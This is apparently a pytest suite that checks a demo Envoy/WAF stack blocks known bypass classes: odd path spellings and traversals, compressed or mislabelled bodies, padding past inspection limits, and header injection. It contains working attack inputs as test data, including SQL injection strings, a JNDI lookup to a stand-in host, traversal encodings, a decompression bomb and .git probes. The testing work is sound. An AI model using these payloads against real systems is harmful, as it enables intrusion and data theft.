"""The outside test's bypass classes, replayed with variants through the demo's real Envoy.

Each request carries a marker in its query; a request that was stopped never reached the echo
upstream with it. A class regresses when any variant gets through.
"""
from __future__ import annotations

import gzip
import zlib

import brotli
import pytest
import zstandard

from extproc.local.stack import DEMO_POLICY, Stack
from tests.support.e2e_support import marker, register_stack, request, require_envoy, unregister, upstream_saw

TOKEN = [("x-access-client-id", "demo-client.access"), ("x-access-client-secret", "demo-secret-change-me-before-real-use")]


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    require_envoy()
    stack = Stack(DEMO_POLICY, workdir=tmp_path_factory.mktemp("bypasses"))
    register_stack("demo stack", stack)
    try:
        yield stack.start()
    finally:
        stack.stop()
        unregister(stack)


def send(stack, method: str, path: str, headers=(), body: bytes | None = None):
    mark = marker()
    separator = "&" if "?" in path else "?"
    resp = request(stack.listen_port, method, f"{path}{separator}m={mark}", headers=headers, body=body)
    return resp, bool(upstream_saw(stack, mark))


# -- 1. path spelling: the app reads these as /internal/..., so access protection applies ----------

PROTECTED_SPELLINGS = [
    "/Internal/report", "/INTERNAL/report", "/internal;/report", "/internal;jsessionid=A1/report",
    "/internal%3b/report", "/%69nternal/report", "/internal", "/Internal", "/internal;x",
    "/%C4%B1nternal/report",  # dotless i: .NET's case-insensitive routing reads /internal/
    "/%EF%BD%89nternal/report",  # fullwidth i
]


@pytest.mark.parametrize("path", PROTECTED_SPELLINGS)
def test_every_spelling_of_a_protected_path_needs_credentials(demo, path):
    resp, reached = send(demo, "GET", path)
    assert resp.status == 401 and not reached, resp
    resp, reached = send(demo, "GET", path, headers=TOKEN)
    assert resp.status == 200 and reached, resp  # the same spelling with credentials is the app's


@pytest.mark.parametrize("path", [
    "/api/..;/internal/report", "/api/%2e%2e/internal/report", "/api/.%2e/internal/report",
    "/api/..%5cinternal/report", "/..;/internal/report", "/api/orders%252f..%252f..%252finternal",
    "/internal%00/report",
])
def test_a_path_with_no_single_reading_is_refused(demo, path):
    resp, reached = send(demo, "GET", path)
    # 400 from the sidecar (or Envoy), or Envoy's redirect to the path it decoded, which is protected
    assert resp.status in (307, 400, 401) and not reached, resp


# -- 2. bodies the WAF must read as the app does ----------------------------------------------------

SQLI = b'{"id":"1\' UNION SELECT username,password FROM users--"}'
JNDI = b'{"note":"${jndi:ldap://evil.example/a}"}'


@pytest.mark.parametrize("coding, encode", [
    ("gzip", gzip.compress), ("x-gzip", gzip.compress), ("deflate", zlib.compress),
    ("br", brotli.compress), ("zstd", zstandard.ZstdCompressor().compress),
    ("gzip, br", lambda data: brotli.compress(gzip.compress(data))), ("GZIP", gzip.compress),
])
def test_a_compressed_payload_is_read_decompressed(demo, coding, encode):
    headers = [("content-type", "application/json"), ("content-encoding", coding)]
    resp, reached = send(demo, "POST", "/products", headers, encode(SQLI))
    assert resp.status == 403 and not reached, resp
    resp, reached = send(demo, "POST", "/products", headers, encode(b'{"id": "42", "qty": 2}'))
    assert resp.status == 200 and reached, resp


@pytest.mark.parametrize("content_type", [
    "text/json", "application/x-json", "application/octet-stream", "text/csv", "application/x-ndjson",
    "text/plain", "application/xml", None,
])
def test_json_is_json_whatever_its_label(demo, content_type):
    headers = [("content-type", content_type)] if content_type else []
    resp, reached = send(demo, "POST", "/api/orders", headers, JNDI)
    assert resp.status == 403 and not reached, resp


@pytest.mark.parametrize("coding, body", [
    ("compress", b"x"), ("gzip", b"not gzip at all"), ("gzip", gzip.compress(SQLI)[:-10]),
    ("gzip", gzip.compress(SQLI) + b"trailing"), ("deflate, deflate, deflate, deflate, deflate", b"x"),
])
def test_a_body_that_cannot_be_decoded_is_refused(demo, coding, body):
    headers = [("content-type", "application/json"), ("content-encoding", coding)]
    resp, reached = send(demo, "POST", "/products", headers, body)
    assert resp.status == 415 and not reached, resp


def test_a_decompression_bomb_gets_the_oversize_answer(demo):
    bomb = gzip.compress(b'{"a": "' + b"A" * 20_000_000 + b'"}')
    headers = [("content-type", "application/json"), ("content-encoding", "gzip")]
    resp, reached = send(demo, "POST", "/products", headers, bomb)
    assert resp.status == 413 and not reached, resp


# -- 3. padding past the inspection limits --------------------------------------------------------

PAYLOAD = "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"


@pytest.mark.parametrize("padding", [255, 1000, 2000])
def test_a_payload_behind_padding_values_is_still_scored(demo, padding):
    query = "&".join(f"f{i}=a+{i}" for i in range(padding))
    resp, reached = send(demo, "GET", f"/products?{query}&{PAYLOAD}")
    assert resp.status == 403 and not reached, resp


def test_more_arguments_than_inspected_are_refused(demo):
    query = "&".join(f"a{i}=1" for i in range(4100))
    resp, reached = send(demo, "GET", f"/api/orders?{query}&x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")
    assert resp.status == 413 and not reached, resp


def test_a_payload_past_the_scanned_text_is_refused(demo):
    filler = '"' + "lorem ipsum dolor " * 16000 + '"'  # 288,000 characters, past max_scan_chars
    body = ('{"a": ' + filler + ', "id": "1\' UNION SELECT username,password FROM users--"}').encode()
    resp, reached = send(demo, "POST", "/api/orders", [("content-type", "application/json")], body)
    assert resp.status in (403, 413) and not reached, resp


# -- headers a client controls reach the scorer ----------------------------------------------------

@pytest.mark.parametrize("name", ["referer", "accept-language", "x-anything", "if-none-match"])
def test_a_payload_in_any_header_is_scored(demo, name):
    value = "1' UNION SELECT username,password FROM users--"
    if name == "referer":  # a valid URL: Envoy drops a referer that is not one
        value = "https://shop.example/p?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
    resp, reached = send(demo, "GET", "/products", [(name, value)])
    assert resp.status == 403 and not reached, resp


@pytest.mark.parametrize("path", ["/.GIT/config", "/.Git/HEAD", "/api/.git/config", "/API/.git/config",
                                  "/api;x/.git/config", "/static/.git/config"])
def test_a_dotfile_probe_is_denied_in_any_spelling_on_any_route(demo, path):
    resp, reached = send(demo, "GET", path)
    assert resp.status == 403 and not reached, resp


@pytest.mark.parametrize("path", ["/api;x/orders", "/API/orders", "/Api/orders/"])
def test_the_api_routes_policy_follows_the_path_the_app_reads(demo, path):
    resp, reached = send(demo, "TRACE", path)  # TRACE is refused on the API route only (405)
    assert resp.status == 405 and not reached, resp
